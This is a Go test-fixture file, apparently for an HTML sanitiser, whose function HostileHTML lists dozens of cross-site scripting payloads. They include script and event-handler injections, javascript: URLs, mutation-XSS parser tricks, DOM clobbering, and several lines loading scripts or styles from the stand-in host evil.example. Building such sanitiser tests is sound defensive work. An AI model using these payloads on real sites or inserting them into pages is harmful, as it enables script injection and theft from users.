package testenv

// HostileHTML are pieces of HTML that run a script, or break out of where they stand, on a page that shows them as they
// are or after a careless cleaning: those that parsers see differently the second time among them.
func HostileHTML() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC="//evil.example/x.js"></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)//`, `<img/src=x/onerror=alert(1)>`, "<img src=`x`onerror=alert(1)>",
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
		`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" &#x6a;avascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
		"<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
		`<form action="javascript:alert(1)"><button>x</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
		`<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href="//evil.example/x.css">`,
		`<style>@import url(//evil.example/x.css);body{display:none}</style>`, `<p style="background:url(//evil.example/x.png)">x</p>`,
		`<div style="position:fixed;inset:0;z-index:9">over all</div>`, `<math href="javascript:alert(1)">x</math>`,
		`<p></div></div></div></body></html><script>alert(1)</script>`, `</title></textarea></style></script><img src=x onerror=alert(1)>`,
		`<table><tr><td></table></div></div><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`,
		`<!--!><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
		`<title><a title="</title><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
		`<noembed><a title="</noembed><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
		`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
		`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">`,
		`<svg><foreignobject><p><style><img src="</style><img src=x onerror=alert(1)>"></p></foreignobject></svg>`,
		`<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></annotation-xml></math>`,
		`<select><style></select><img src=x onerror=alert(1)></style>`, `<template><img src=x onerror=alert(1)></template>`,
		`<img srcset="x 1x, //evil.example/y.png 2x" alt="<script>alert(1)</script>">`, `<img alt="x` + "\x00" + `"><img src=x onerror=alert(1)>`,
		`&lt;img src=x onerror=alert(1)&gt;`, `<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>`, `<p class="</p><script>alert(1)</script>">x</p>`,
		`<a href="https://e.example/&quot; onclick=alert(1) x=&quot;">x</a>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
		`<div id=ran>x</div><a id=out href=x>clobber</a><form id=document></form>`, `<b><i><p></b></i><script>alert(1)</script></p>`,
	}
}
